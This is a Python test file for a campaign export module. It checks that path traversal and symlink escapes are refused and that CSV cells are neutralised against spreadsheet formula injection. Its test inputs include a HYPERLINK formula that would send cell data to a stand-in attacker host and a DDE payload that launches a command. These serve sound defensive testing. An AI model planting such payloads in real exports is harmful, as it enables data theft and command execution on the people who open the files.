"""What the engine writes for people to open: paths inside their folder, CSV cells that a
spreadsheet shows as text."""

import csv
import io
from pathlib import Path

import pytest

from campaign.exports import csv_dicts, inside, spreadsheet_cell
from models.errors import OutsideFolder


@pytest.mark.parametrize("part", ["../../x", "..", "/tmp/elsewhere", "a/../../b", "a/../.."])
def test_a_path_leading_out_of_its_folder_is_refused(tmp_path: Path, part: str) -> None:
    with pytest.raises(OutsideFolder, match="would be written outside"):
        inside(tmp_path / "out", part, "file.md")
    assert not (tmp_path / "x").exists() and not (tmp_path / "out").exists()


def test_a_symbolic_link_leading_out_is_refused(tmp_path: Path) -> None:
    (tmp_path / "out").mkdir()
    (tmp_path / "out" / "B1").symlink_to(tmp_path)
    with pytest.raises(OutsideFolder):
        inside(tmp_path / "out", "B1", "..", "..", "x.md")
    assert inside(tmp_path / "out", "B2", "x.md") == tmp_path / "out" / "B2" / "x.md"


@pytest.mark.parametrize(
    ("cell", "shown"),
    [
        (
            '=HYPERLINK("http://evil.example/"&B2,"x")',
            '\'=HYPERLINK("http://evil.example/"&B2,"x")',
        ),
        ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
        ("+1", "'+1"),
        ("-1+2", "'-1+2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Chi bộ 1", "Chi bộ 1"),
        ("a=b", "a=b"),
        (-5, -5),
        (None, None),
    ],
)
def test_a_cell_a_spreadsheet_would_run_is_shown_as_text(cell: object, shown: object) -> None:
    assert spreadsheet_cell(cell) == shown


def test_every_cell_of_a_csv_is_made_safe() -> None:
    handle = io.StringIO()
    csv_dicts(handle, ["actor", "n"], [{"actor": "=1+1", "n": 3}, {"actor": "ok"}])
    assert list(csv.reader(io.StringIO(handle.getvalue()))) == [
        ["actor", "n"],
        ["'=1+1", "3"],
        ["ok", ""],
    ]
